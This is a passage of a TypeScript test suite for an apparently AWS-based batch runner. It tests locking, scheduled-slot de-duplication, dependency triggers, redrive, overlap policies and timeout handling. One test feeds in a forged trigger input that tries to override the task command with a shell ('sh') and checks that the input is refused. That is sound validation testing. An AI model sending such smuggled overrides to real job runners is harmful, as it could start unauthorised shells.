      { ...DEPENDENCY_INPUT, upstream: { ...DEPENDENCY_INPUT.upstream, executionArn: 1 } },
    ],
    ['dependency with a reason', { ...DEPENDENCY_INPUT, reason: 'again' }],
    ['dependency with a requestedBy', { ...DEPENDENCY_INPUT, requestedBy: 'alice' }],
  ])(
    'an input almost of an exact shape (%s) is validated like any manual input and refused: no crash, nothing started',
    async (_label, input) => {
      const r = await runScenario(world.db, world.aws, { input: JSON.parse(JSON.stringify(input)) });

      expect(r.statesEntered.slice(0, 2)).toEqual(['RouteInput', 'ValidateManualInput']);
      expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.InvalidInput']);
      expect(r.cause).toMatch(/trigger = "(schedule|dependency)" is not allowed/);
      expect(world.aws.startedTasks).toHaveLength(0);
      expect(r.lockItem).toBeUndefined();
    },
  );

  test('invalid input does not disturb a lock held by a running execution', async () => {
    const holder = executionArn('Running');
    world.aws.executions.set(holder, 'RUNNING');
    await holdLock(world.db, holder);

    const r = await runScenario(world.db, world.aws, { input: { reason: '' } });

    expect(r.error).toBe('BatchRunner.InvalidInput');
    expect(r.lockItem?.owner.S).toBe(holder);
  });
});

describe('alerting', () => {
  test('alert publish fails: still ends FAILED with the original error, lock released, one alert attempted', async () => {
    world.aws.watch = { exitCode: 1 };
    const r = await runScenario(world.db, world.aws, {
      inject: (call) =>
        call.state === 'PublishFailureAlert'
          ? Object.assign(new Error('Topic unavailable'), { name: 'SNS.InternalErrorException' })
          : undefined,
    });

    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.TaskFailed');
    expect(r.lockItem).toBeUndefined();
    expect(failureAlerts(r)).toHaveLength(1);
    expect(world.aws.published).toHaveLength(0);
  });

  test('recording the alert is throttled once, then SNS is down: the alert stays owed for the reconciler to deliver', async () => {
    world.aws.watch = { exitCode: 1 };
    const r = await runScenario(world.db, world.aws, {
      inject: (call, attempt) => {
        if (call.state === 'RecordOwedAlert' && attempt === 0)
          return Object.assign(new Error('Rate exceeded'), { name: 'DynamoDB.ThrottlingException' });
        if (call.state === 'PublishFailureAlert')
          return Object.assign(new Error('Topic unavailable'), { name: 'SNS.InternalErrorException' });
        return undefined;
      },
    });

    expect(r.error).toBe('BatchRunner.TaskFailed');
    expect(world.aws.published).toEqual([]);
    const { Item } = await world.db.client.send(
      new GetItemCommand({
        TableName: LOCK_TABLE,
        Key: { batch: { S: `alert#${r.executionArn}` } },
        ConsistentRead: true,
      }),
    );
    expect(Item).toMatchObject({
      state: { S: 'owed' },
      outcome: { S: 'failed' },
      subject: { S: '[batch-runner] missing-images failed' },
    });
  });
});

describe('one run per scheduled slot', () => {
  test('a late duplicate delivery of a slot that already ran is skipped: no lock touched, no task, a notice', async () => {
    const slot = scheduledInput();
    const first = await runScenario(world.db, world.aws, { input: slot, name: 'FirstDelivery' });
    expect(first.output.outcome).toBe('succeeded');

    // Scheduler delivers the same slot again, long after the first run ended and released the lock.
    const late = await runScenario(world.db, world.aws, { input: { ...slot }, name: 'LateDuplicate' });

    expect(late.status).toBe('SUCCEEDED');
    expect(late.output).toMatchObject({ outcome: 'skipped', duplicateSlot: slot.scheduledTime });
    expect(late.output.reason).toContain(`the scheduled slot ${slot.scheduledTime} has already been claimed`);
    expect(callsTo(late, 'AcquireLock')).toHaveLength(0);
    expect(world.aws.startedTasks).toHaveLength(1);
    expect(late.lockItem).toBeUndefined();
    expect(world.aws.published.at(-1)?.Subject).toBe(`[batch-runner] ${FAMILY} skipped (schedule)`);
  });

  test('a slot claim that is throttled, then not answered, is retried: the slot is still claimed, so a late duplicate is skipped', async () => {
    const slot = scheduledInput();
    const restore = dilateTimers(1000);
    let first: ScenarioResult | undefined;
    try {
      first = await runScenario(world.db, world.aws, {
        input: slot,
        name: 'ClaimRetried',
        inject: (call, attempt) =>
          call.state !== 'ClaimScheduledSlot'
            ? undefined
            : attempt === 0
              ? new ServiceError('DynamoDB.ThrottlingException', 'Rate exceeded')
              : attempt === 1
                ? 'hang'
                : undefined,
      });
    } finally {
      restore();
    }
    expect(callsTo(first!, 'ClaimScheduledSlot').map((c) => c.error?.name ?? 'ok')).toEqual([
      'DynamoDB.ThrottlingException',
      'States.Timeout',
      'ok',
    ]);
    expect(first!.output.outcome).toBe('succeeded');

    const late = await runScenario(world.db, world.aws, { input: { ...slot }, name: 'LateAfterRetry' });
    expect(late.output).toMatchObject({ outcome: 'skipped', duplicateSlot: slot.scheduledTime });
    expect(world.aws.startedTasks).toHaveLength(1);
  });

  test('two deliveries of one slot at once: exactly one runs', async () => {
    const slot = scheduledInput();
    world.aws.whileTaskRuns = () => new Promise((resolve) => setTimeout(resolve, 200));
    const [a, b] = await Promise.all([
      runScenario(world.db, world.aws, { input: slot, name: 'DeliveryA' }),
      runScenario(world.db, world.aws, { input: { ...slot }, name: 'DeliveryB' }),
    ]);
    expect([a.output.outcome, b.output.outcome].sort()).toEqual(['skipped', 'succeeded']);
    expect(world.aws.startedTasks).toHaveLength(1);
  });

  test('the next slot runs; a manual start is not a slot and is never a duplicate', async () => {
    await runScenario(world.db, world.aws, { input: scheduledInput('2026-12-01T21:00:00Z') });
    const next = await runScenario(world.db, world.aws, { input: scheduledInput('2026-12-02T21:00:00Z') });
    const manual = await runScenario(world.db, world.aws, { input: {} });
    expect([next.output.outcome, manual.output.outcome]).toEqual(['succeeded', 'succeeded']);
    expect(callsTo(manual, 'ClaimScheduledSlot')).toHaveLength(0);
  });

  test('a manual run for a slot (run --for) claims it: the Scheduler`s delivery of that slot and a second run for it are skipped', async () => {
    const manual = await runScenario(world.db, world.aws, {
      input: { trigger: 'cli', requestedBy: 'alice', slot: '2026-12-05T06:00+09:00' },
      name: 'ManualForSlot',
    });
    expect(manual.output.outcome).toBe('succeeded');
    expect(callsTo(manual, 'ClaimScheduledSlot')[0].params.Item.batch.S).toBe(`slot#${FAMILY}#2026-12-04T21:00:00Z`);
    expect(manual.statesEntered.slice(0, 6)).toEqual([
      'RouteInput',
      'ValidateManualInput',
      'IsManualInputValid',
      'DoesRunStandForSlot',
      'ClaimScheduledSlot',
      'AcquireLock',
    ]);

    // The schedule then fires for the same slot: it ran already.
    const scheduled = await runScenario(world.db, world.aws, { input: scheduledInput('2026-12-04T21:00:00Z') });
    expect(scheduled.output).toMatchObject({ outcome: 'skipped', duplicateSlot: '2026-12-04T21:00:00Z' });
    expect(scheduled.statesEntered).toContain('RecordSkipDuplicateSlot');

    // A second manual run for it (written in UTC this time) is skipped too, saying why.
    const again = await runScenario(world.db, world.aws, { input: { trigger: 'cli', slot: '2026-12-04T21:00:00Z' } });
    expect(again.output).toMatchObject({ outcome: 'skipped', duplicateSlot: '2026-12-04T21:00:00Z' });
    expect(again.output.reason).toContain('The slot 2026-12-04T21:00:00Z this run stands for has already been claimed');
    expect(again.statesEntered).toContain('RecordSkipSlotAlreadyClaimed');
    expect(callsTo(again, 'AcquireLock')).toHaveLength(0);
    expect(world.aws.startedTasks).toHaveLength(1);
    expect(world.aws.published.at(-1)?.Subject).toBe(`[batch-runner] ${FAMILY} skipped (cli)`);
  });

  test('a claim whose write landed but whose answer was lost is this execution`s own: the retried claim proceeds', async () => {
    const slot = scheduledInput();
    // What the first attempt left behind before its answer was lost.
    await world.db.client.send(
      new PutItemCommand({
        TableName: LOCK_TABLE,
        Item: {
          batch: { S: `slot#${FAMILY}#${slot.scheduledTime}` },
          execution: { S: executionArn('ClaimAnswerLost') },
        },
      }),
    );
    const r = await runScenario(world.db, world.aws, { input: slot, name: 'ClaimAnswerLost' });
    expect(callsTo(r, 'ClaimScheduledSlot')[0].error).toBeUndefined();
    expect(r.output.outcome).toBe('succeeded');
  });

  test('the claim itself failing does not stop the run: the lock still prevents overlap', async () => {
    const r = await runScenario(world.db, world.aws, {
      inject: (call) =>
        call.state === 'ClaimScheduledSlot'
          ? Object.assign(new Error('boom'), { name: 'DynamoDB.AmazonDynamoDBException' })
          : undefined,
    });
    expect(r.output.outcome).toBe('succeeded');
    expect(r.statesEntered).toContain('AcquireLock');
  });
});

describe('dependencies (after): a run started by the upstream batch`s success', () => {
  /** The upstream batch's success, run by the same definition under the upstream's name. */
  const upstreamSuccess = async (input: Record<string, unknown>, name: string) => {
    const upstream = await runScenario(world.db, world.aws, { input, name, batch: { name: 'xml-articles' } });
    expect(upstream.output.outcome).toBe('succeeded');
    const event = world.aws.busEvents.filter((e) => e.DetailType === 'Batch Run Succeeded').at(-1);
    expect(event?.Detail.batch).toBe('xml-articles');
    return { upstream, detail: event?.Detail as Record<string, any> };
  };

  test('claims the upstream run`s slot and runs through the lock and checks; a second delivery of the same success is a skipped duplicate', async () => {
    const slot = scheduledInput();
    const { upstream, detail } = await upstreamSuccess(slot, 'UpstreamScheduled');
    expect(detail.scheduledTime).toBe(slot.scheduledTime);
    const input = dependencyInputFrom(detail);
    expect(input).toEqual({
      trigger: 'dependency',
      scheduledTime: slot.scheduledTime,
      upstream: { batch: 'xml-articles', executionArn: upstream.executionArn },
    });

    const r = await runScenario(world.db, world.aws, { input, name: 'DependencyRun' });
    expect(r.status).toBe('SUCCEEDED');
    expect(r.output.outcome).toBe('succeeded');
    expect(r.statesEntered.slice(0, 4)).toEqual([
      'RouteInput',
      'PrepareDependencyRun',
      'ClaimScheduledSlot',
      'AcquireLock',
    ]);
    expect(callsTo(r, 'ClaimScheduledSlot')[0].params.Item.batch.S).toBe(`slot#${FAMILY}#${slot.scheduledTime}`);
    expect(callsTo(r, 'CheckRunningTasks')).toHaveLength(1);
    const environment = contextEnvironmentOf(r);
    expect(environment).toEqual(
      expect.arrayContaining([
        { Name: 'BATCH_RUNNER_TRIGGER', Value: 'dependency' },
        { Name: 'BATCH_RUNNER_SCHEDULED_TIME', Value: slot.scheduledTime },
      ]),
    );
    const succeeded = world.aws.busEvents.filter((e) => e.DetailType === 'Batch Run Succeeded').at(-1);
    expect(succeeded?.Detail.run).toMatchObject({
      trigger: 'dependency',
      scheduledTime: slot.scheduledTime,
      requestedBy: 'EventBridge rule',
      reason: `after xml-articles succeeded (execution ${upstream.executionArn})`,
    });

    // EventBridge delivers at least once: the same success again.
    const again = await runScenario(world.db, world.aws, {
      input: dependencyInputFrom(detail),
      name: 'DependencyDuplicate',
    });
    expect(again.output).toMatchObject({ outcome: 'skipped', duplicateSlot: slot.scheduledTime });
    expect(again.statesEntered).toContain('RecordSkipDuplicateSlot');
    expect(callsTo(again, 'AcquireLock')).toHaveLength(0);
    expect(world.aws.startedTasks).toHaveLength(2); // the upstream's task and the dependent's, no third
    expect(world.aws.published.at(-1)?.Subject).toBe(`[batch-runner] ${FAMILY} skipped (dependency)`);
  });

  test('an upstream run without a slot: the dependent stands for the scheduled time the upstream task was told (its execution start)', async () => {
    const { detail } = await upstreamSuccess({ trigger: 'cli', requestedBy: 'alice' }, 'UpstreamManual');
    expect(detail.run.scheduledTime).toBeUndefined();
    expect(detail.scheduledTime).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/);
    const r = await runScenario(world.db, world.aws, {
      input: dependencyInputFrom(detail),
      name: 'DependencyOfManual',
    });
    expect(r.output.outcome).toBe('succeeded');
    expect(r.statesEntered[1]).toBe('PrepareDependencyRun');
    expect(callsTo(r, 'ClaimScheduledSlot')[0].params.Item.batch.S).toBe(`slot#${FAMILY}#${detail.scheduledTime}`);
  });

  test('a dependency input with anything more (a forged reason or overrides) is validated, and refused: dependency is no manual trigger', async () => {
    const r = await runScenario(world.db, world.aws, {
      input: {
        trigger: 'dependency',
        scheduledTime: '2026-12-01T21:00:00Z',
        upstream: { batch: 'xml-articles', executionArn: executionArn('Forged') },
        overrides: { command: ['sh'] },
      },
    });
    expect(r.status).toBe('FAILED');
    expect(r.statesEntered.slice(0, 2)).toEqual(['RouteInput', 'ValidateManualInput']);
    expect(world.aws.startedTasks).toHaveLength(0);
  });
});

describe('redrive (the console button on a failed execution)', () => {
  /** The lock changes hands between the execution's first attempt and its redrive. */
  class LockTakenMeanwhile extends ScriptedAws {
    services(dynamodb: EmbeddedDynamoDb) {
      const s = super.services(dynamodb);
      return {
        ...s,
        ecs: {
          ...s.ecs,
          listTasks: async (p: Record<string, any>) => {
            await holdLock(dynamodb, executionArn('NewOwner'));
            return s.ecs.listTasks(p);
          },
        },
      };
    }
  }

  test('a redriven execution whose lock was taken meanwhile starts nothing and leaves the new owner`s lock alone', async () => {
    world.aws = new LockTakenMeanwhile();
    world.aws.executions.set(executionArn('NewOwner'), 'RUNNING');
    const r = await runScenario(world.db, world.aws, { redriveCount: 1, input: {} });

    expect(r.error).toBe('BatchRunner.RedriveWithoutLock');
    expect(r.statesEntered).toEqual(expect.arrayContaining(['ConfirmLockAfterRedrive', 'RecordRedriveWithoutLock']));
    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
    expect(r.lockItem?.owner.S).toBe(executionArn('NewOwner'));
  });

  test('a redriven execution whose lock was released meanwhile (no lock item) starts nothing, and the release step says why', async () => {
    class LockReleasedMeanwhile extends ScriptedAws {
      services(dynamodb: EmbeddedDynamoDb) {
        const s = super.services(dynamodb);
        return {
          ...s,
          ecs: {
            ...s.ecs,
            listTasks: async (p: Record<string, any>) => {
              await dynamodb.client.send(
                new DeleteItemCommand({ TableName: LOCK_TABLE, Key: { batch: { S: FAMILY } } }),
              );
              return s.ecs.listTasks(p);
            },
          },
        };
      }
    }
    world.aws = new LockReleasedMeanwhile();
    const r = await runScenario(world.db, world.aws, { redriveCount: 1, input: {} });

    expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.RedriveWithoutLock']);
    expect(world.aws.startedTasks).toHaveLength(0);
    expect(r.lockItem).toBeUndefined();
    // The release step ran on this path too: the reconciler looked for this execution's tasks.
    expect(world.aws.reconcilerCalls.map((c) => c.action)).toEqual(['finish']);
    expect(alerts()).toHaveLength(1);
  });

  describe('a redriven execution whose first start found no capacity checks its lock again before the next start', () => {
    test('the lock was taken during the back-off: no second start, the new owner keeps its lock', async () => {
      class LockTakenDuringBackOff extends ScriptedAws {
        services(dynamodb: EmbeddedDynamoDb) {
          const s = super.services(dynamodb);
          return {
            ...s,
            ecs: {
              ...s.ecs,
              runTask: async (p: Record<string, any>) => {
                const answer = await s.ecs.runTask(p);
                await holdLock(dynamodb, executionArn('NewOwner'));
                return answer;
              },
            },
          };
        }
      }
      world.aws = new LockTakenDuringBackOff();
      world.aws.executions.set(executionArn('NewOwner'), 'RUNNING');
      world.aws.runTaskAnswers = [capacityFailure(), 'start'];

      const r = await runScenario(world.db, world.aws, { redriveCount: 1, input: {} });

      expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.RedriveWithoutLock']);
      expect(callsTo(r, 'StartBatchTask')).toHaveLength(1);
      expect(world.aws.startedTasks).toEqual([]);
      expect(r.lockItem?.owner.S).toBe(executionArn('NewOwner'));
    });

    test('the lock cannot be read then: no second start', async () => {
      world.aws.runTaskAnswers = [capacityFailure(), 'start'];
      let lockChecks = 0;
      const r = await runScenario(world.db, world.aws, {
        redriveCount: 1,
        input: {},
        inject: (call) =>
          call.state === 'ConfirmLockAfterRedrive' && ++lockChecks > 1
            ? new ServiceError('DynamoDB.AccessDeniedException', 'not authorized to perform: dynamodb:GetItem')
            : undefined,
      });

      expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.RedriveWithoutLock']);
      expect(callsTo(r, 'ConfirmLockAfterRedrive')).toHaveLength(2);
      expect(callsTo(r, 'StartBatchTask')).toHaveLength(1);
      expect(world.aws.startedTasks).toEqual([]);
    });
  });

  test('a redriven execution that still owns its lock runs; a new execution skips the check', async () => {
    const redriven = await runScenario(world.db, world.aws, { redriveCount: 1, input: {} });
    expect(redriven.output.outcome).toBe('succeeded');
    expect(redriven.statesEntered).toContain('ConfirmLockAfterRedrive');
    const fresh = await runScenario(world.db, world.aws, { input: {} });
    expect(fresh.statesEntered).not.toContain('ConfirmLockAfterRedrive');
  });
});

describe('overlap policies', () => {
  test('wait: gets the lock once the holder finishes', async () => {
    const holder = executionArn('FinishingSoon');
    world.aws.executions.set(holder, 'RUNNING');
    await holdLock(world.db, holder);
    world.aws.beforeDescribeExecution = async (n) => {
      // The holder releases its lock between our first and second wait (it is still finishing).
      if (n === 2) {
        await world.db.client.send(new DeleteItemCommand({ TableName: LOCK_TABLE, Key: { batch: { S: FAMILY } } }));
      }
    };

    const r = await runScenario(world.db, world.aws, { batch: { overlapPolicy: 'wait' } });

    expect(r.output.outcome).toBe('succeeded');
    expect(r.statesEntered.filter((s) => s === 'WaitForLock')).toHaveLength(2);
    expect(world.aws.startedTasks).toHaveLength(1);
  });

  test('wait: gives up after the bound and skips, naming the holder', async () => {
    const holder = executionArn('StuckForHours');
    world.aws.executions.set(holder, 'RUNNING');
    await holdLock(world.db, holder);

    const r = await runScenario(world.db, world.aws, {
      batch: { overlapPolicy: 'wait' },
      substitutions: { LockWaitAttempts: '3' },
    });

    expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: holder });
    expect(r.statesEntered.filter((s) => s === 'WaitForLock')).toHaveLength(3);
    expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
  });

  test('replace: stops the running copy (execution, then its task through the reconciler), takes the lock, then runs', async () => {
    const holder = executionArn('HungFor15Hours');
    const hungTask = newTaskArn();
    world.aws.executions.set(holder, 'RUNNING');
    world.aws.taskStartedBy.set(hungTask, 'HungFor15Hours');
    world.aws.describeCallsUntilStopped = 2; // RUNNING when first looked up, STOPPED after the reconciler's stop
    await holdLock(world.db, holder);
    world.aws.listTasksAnswers = [[hungTask], []];

    const r = await runScenario(world.db, world.aws, { batch: { overlapPolicy: 'replace' } });

    expect(callsTo(r, 'StopLockHolder')[0].params).toEqual({
      ExecutionArn: holder,
      Error: 'BatchRunner.Replaced',
      // What the stopped run's console page says about why it ended.
      Cause: `Replaced by execution ${r.executionArn} (overlap policy replace).`,
    });
    expect(world.aws.stopRequests).toEqual([
      { task: hungTask, reason: expect.stringContaining('execution HungFor15Hours is ABORTED') },
    ]);
    // The lock was let go only after the hung task was confirmed STOPPED.
    expect(world.aws.reconcilerAnswers[0]).toMatchObject({ lock: 'released', taskMayStillRun: false });
    expect(callsTo(r, 'CheckRunningTasks')).toHaveLength(1);
    expect(r.output.outcome).toBe('succeeded');
    expect(world.aws.startedTasks).toHaveLength(1);
  });
});

describe('overlap policy replace and copies started outside the runner', () => {
  test('a copy of the family started by hand is stopped with a reason naming the replacing run, which then runs', async () => {
    const copy = newTaskArn();
    world.aws.listTasksAnswers = [[copy], []];

    const r = await runScenario(world.db, world.aws, {
      name: 'ReplacesHandStartedCopy',
      batch: { overlapPolicy: 'replace' },
    });

    // The stopped reason is what an operator sees on the copy in the ECS console.
    expect(world.aws.stopRequests).toEqual([
      { task: copy, reason: 'batch-runner: replaced by execution ReplacesHandStartedCopy (overlap policy replace)' },
    ]);
    expect(r.output).toMatchObject({ outcome: 'succeeded', lockRelease: { status: 'released' } });
    expect(world.aws.startedTasks).toHaveLength(1);
    expect(r.lockItem).toBeUndefined();
  });
});

describe('overlap policy replace when the copy does not go', () => {
  test('replace, but the running copy cannot be stopped (access denied): the run fails with one alert, the copy and its lock left alone, nothing started', async () => {
    const holder = executionArn('CannotBeStopped');
    world.aws.executions.set(holder, 'RUNNING');
    await holdLock(world.db, holder);

    const r = await runScenario(world.db, world.aws, {
      batch: { overlapPolicy: 'replace' },
      inject: (call) =>
        call.state === 'StopLockHolder'
          ? new ServiceError('Sfn.AccessDeniedException', 'not authorized to perform: states:StopExecution')
          : undefined,
    });

    expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.InternalError']);
    expect(r.cause).toContain('Could not acquire the lock (Sfn.AccessDeniedException');
    expect(world.aws.executions.get(holder)).toBe('RUNNING');
    expect(r.lockItem?.owner.S).toBe(holder);
    expect(world.aws.startedTasks).toHaveLength(0);
    expect(alerts()).toHaveLength(1);
  });

  test('a copy that cannot be stopped (access denied): the run fails with one alert, the copy left alone, nothing started', async () => {
    const copy = newTaskArn();
    world.aws.listTasksAnswers = [[copy]];

    const r = await runScenario(world.db, world.aws, {
      batch: { overlapPolicy: 'replace' },
      inject: (call) =>
        call.state === 'StopRunningCopy'
          ? new ServiceError('Ecs.AccessDeniedException', 'not authorized to perform: ecs:StopTask')
          : undefined,
    });

    expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.InternalError']);
    expect(r.cause).toContain('Could not check for running tasks');
    expect(world.aws.startedTasks).toHaveLength(0);
    expect(alerts()).toHaveLength(1);
    expect(r.lockItem).toBeUndefined();
  });

  test('a StopTask that does not answer once is retried: the copy is stopped and the run goes on', async () => {
    const copy = newTaskArn();
    world.aws.listTasksAnswers = [[copy], []];
    const restore = dilateTimers(1000);
    let r: ScenarioResult | undefined;
    try {
      r = await runScenario(world.db, world.aws, {
        batch: { overlapPolicy: 'replace' },
        inject: (call, attempt) => (call.state === 'StopRunningCopy' && attempt === 0 ? 'hang' : undefined),
      });
    } finally {
      restore();
    }
    expect(callsTo(r!, 'StopRunningCopy').map((c) => c.error?.name ?? 'ok')).toEqual(['States.Timeout', 'ok']);
    expect(world.aws.stopRequests.map((s) => s.task)).toEqual([copy]);
    expect(r!.output.outcome).toBe('succeeded');
  });

  test('a copy that never stops: stopped once per check, at most StopConfirmAttempts times, then skipped naming it', async () => {
    const copy = newTaskArn();
    world.aws.listTasksAnswers = [[copy]];

    const r = await runScenario(world.db, world.aws, {
      batch: { overlapPolicy: 'replace' },
      substitutions: { StopConfirmAttempts: '3' },
    });

    expect(world.aws.stopRequests.map((s) => s.task)).toEqual([copy, copy, copy]);
    expect(r.output).toMatchObject({ outcome: 'skipped' });
    expect(JSON.stringify(r.output)).toContain(copy);
    expect(world.aws.startedTasks).toHaveLength(0);
  });
});

describe('a stale lock whose state changes while it is settled', () => {
  test('the stale owner`s task does not stop in time: skipped naming it, its lock kept until STOPPED, nothing started', async () => {
    const stale = executionArn('CrashedWithItsTask');
    world.aws.executions.set(stale, 'FAILED');
    await holdLock(world.db, stale);
    const orphan = newTaskArn();
    world.aws.taskStartedBy.set(orphan, 'CrashedWithItsTask');
    world.aws.listTasksAnswers = [[orphan]];
    world.aws.describeCallsUntilStopped = Number.POSITIVE_INFINITY;

    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('SUCCEEDED');
    expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: stale });
    expect(r.output.reason).toContain('its task has not stopped yet');
    expect(r.output.reason).toContain(orphan);
    // The reconciler asked ECS to stop the orphan; the runner started nothing beside it.
    expect(world.aws.stopRequests.map((s) => s.task)).toEqual([orphan]);
    expect(world.aws.startedTasks).toEqual([]);
    expect(r.lockItem?.owner.S).toBe(stale);
    expect(r.lockItem?.pendingStopTaskArns.SS).toEqual([orphan]);
    expect(world.aws.published.map((p) => p.MessageAttributes.severity.StringValue)).toContain('notice');
  });

  test('the stale lock is released by someone else meanwhile: the run takes the free lock and runs', async () => {
    const stale = executionArn('EndedMeanwhile');
    world.aws.executions.set(stale, 'FAILED');
    await holdLock(world.db, stale);
    // Between reading the holder and settling it, its own cleanup releases the lock.
    world.aws.beforeDescribeExecution = async () => {
      await world.db.client.send(new DeleteItemCommand({ TableName: LOCK_TABLE, Key: { batch: { S: FAMILY } } }));
    };

    const r = await runScenario(world.db, world.aws);

    expect(world.aws.reconcilerAnswers[0]).toMatchObject({ lock: 'free' });
    expect(r.output).toMatchObject({ outcome: 'succeeded', lockRelease: { status: 'released' } });
    expect(world.aws.startedTasks).toHaveLength(1);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toEqual([]);
  });

  test('a live run takes the stale lock meanwhile: looked at again, skipped naming the live run, its lock untouched', async () => {
    const stale = executionArn('Crashed');
    const newcomer = executionArn('StartedMeanwhile');
    world.aws.executions.set(stale, 'FAILED');
    world.aws.executions.set(newcomer, 'RUNNING');
    await holdLock(world.db, stale);
    world.aws.beforeDescribeExecution = async (call) => {
      if (call === 1) await holdLock(world.db, newcomer);
    };

    const r = await runScenario(world.db, world.aws);

    expect(world.aws.reconcilerAnswers[0]).toMatchObject({ lock: 'held by a live owner' });
    expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: newcomer });
    expect(world.aws.startedTasks).toEqual([]);
    expect(world.aws.stopRequests).toEqual([]);
    expect(r.lockItem?.owner.S).toBe(newcomer);
  });

  test('a lock item without its acquisition time: skipped naming the holder, saying the time is unknown', async () => {
    const holder = executionArn('OldVersionHolder');
    world.aws.executions.set(holder, 'RUNNING');
    await world.db.client.send(
      new PutItemCommand({ TableName: LOCK_TABLE, Item: { batch: { S: FAMILY }, owner: { S: holder } } }),
    );

    const r = await runScenario(world.db, world.aws);

    expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: holder });
    expect(r.output.reason).toContain('does not say since when');
    expect(world.aws.startedTasks).toEqual([]);
    expect(r.lockItem?.owner.S).toBe(holder);
    expect(world.aws.published).toHaveLength(1);
  });
});

describe('a skip whose lock was taken over', () => {
  test('a task of the family runs and another run takes the lock meanwhile: lock lost, one alert, its lock untouched', async () => {
    const intruder = executionArn('ForcedUnlockThenStarted');
    world.aws.listTasksAnswers = [[newTaskArn()]];
    const services = world.aws.services.bind(world.aws);
    world.aws.services = (dynamodb) => {
      const s = services(dynamodb);
      const listTasks = s.ecs.listTasks.bind(s.ecs);
      s.ecs.listTasks = async (p) => {
        await holdLock(world.db, intruder);
        return listTasks(p);
      };
      return s;
    };

    const r = await runScenario(world.db, world.aws);

    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.LockLost');
    expect(world.aws.startedTasks).toEqual([]);
    expect(r.lockItem?.owner.S).toBe(intruder);
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('may have overlapped');
    expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('failed');
  });
});

describe('the deadline and a watcher outage', () => {
  test('the watcher answers DeadlineReached: the runner stops its task, releases after STOPPED, one "timed out" alert', async () => {
    world.aws.watch = 'deadline';

    const r = await runScenario(world.db, world.aws);

    expect(r.error).toBe('BatchRunner.TimedOut');
    expect(world.aws.stopRequests).toEqual([
      {
        task: world.aws.startedTasks[0],
        reason: expect.stringMatching(/^batch-runner: hard timeout of \d+ s reached/),
      },
    ]);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Subject).toBe('[batch-runner] missing-images timed_out');
    expect(alerts()[0].Message).toContain('Task may still run: false');
  });

  test('the watcher is unavailable at the deadline: the chunk count decides, the task is stopped, one "timed out" alert', async () => {
    world.aws.watch = 'hang';
    const r = await runScenario(world.db, world.aws, {
      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1' },
      // The first chunk times out; every attempt of the look at the deadline finds the watcher down.
      inject: (call, attempt) =>
        call.state === 'WaitForTaskToStop' && attempt >= 1
          ? Object.assign(new Error('Rate exceeded'), { name: 'Lambda.ServiceException' })
          : undefined,
    });

    expect(r.error).toBe('BatchRunner.TimedOut');
    expect(world.aws.stopRequests.map((s) => s.task)).toEqual([world.aws.startedTasks[0]]);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Subject).toBe('[batch-runner] missing-images timed_out');
  });

  test('the watcher cannot be invoked at all (its function is gone): the runner stops its task itself, saying why, and alerts', async () => {
    world.aws.watch = 'hang';
    const r = await runScenario(world.db, world.aws, {
      inject: (call) =>
        call.state === 'WaitForTaskToStop'
          ? new ServiceError('Lambda.ResourceNotFoundException', `Function not found: ${WATCHER_ARN}`)
          : undefined,
    });

    expect([r.status, r.error]).toEqual(['FAILED', 'BatchRunner.InternalError']);
    // The stop reason ECS shows on the task says it was the runner, and why.
    expect(world.aws.stopRequests).toEqual([
      {
        task: world.aws.startedTasks[0],
        reason: expect.stringMatching(/^batch-runner: internal error while watching the task \(execution /),
      },
    ]);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('Lambda.ResourceNotFoundException');
  });

  test('the watcher is down throughout: the task is stopped once the hard timeout`s chunks have passed, not a chunk later', async () => {
    world.aws.watch = 'hang';
    const r = await runScenario(world.db, world.aws, {
      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '3', HardTimeoutSeconds: '3' },
      inject: (call) =>
        call.state === 'WaitForTaskToStop'
          ? Object.assign(new Error('Rate exceeded'), { name: 'Lambda.ServiceException' })
          : undefined,
    });

    expect(r.error).toBe('BatchRunner.TimedOut');
    expect(world.aws.stopRequests.map((s) => s.task)).toEqual([world.aws.startedTasks[0]]);
    // Without the watcher, the runner's own waits are the clock: each is one chunk (WaitChunkSeconds).
    const beforeStop = r.statesEntered.slice(0, r.statesEntered.indexOf('StopBatchTask'));
    expect(beforeStop.filter((s) => s === 'WaitWithoutWatcher')).toHaveLength(3);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
  });

  test('the watcher is down longer than its retries before the deadline: the runner waits a chunk and asks again', async () => {
    const down = 5; // the first attempt and its 4 retries
    const r = await runScenario(world.db, world.aws, {
      inject: (call, attempt) =>
        call.state === 'WaitForTaskToStop' && attempt < down
          ? Object.assign(new Error('Rate exceeded'), { name: 'Lambda.ServiceException' })
          : undefined,
    });

    expect(callsTo(r, 'WaitForTaskToStop')).toHaveLength(down + 1);
    expect(r.output).toMatchObject({ outcome: 'succeeded', task: { exitCode: 0 } });
    expect(world.aws.stopRequests).toEqual([]);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toEqual([]);
  });

  test('ECS no longer knows the task after StopTask: it is not running, the lock is released, one "timed out" alert', async () => {
    world.aws.watch = 'hang';
    world.aws.forgetsStoppedTasks = true;

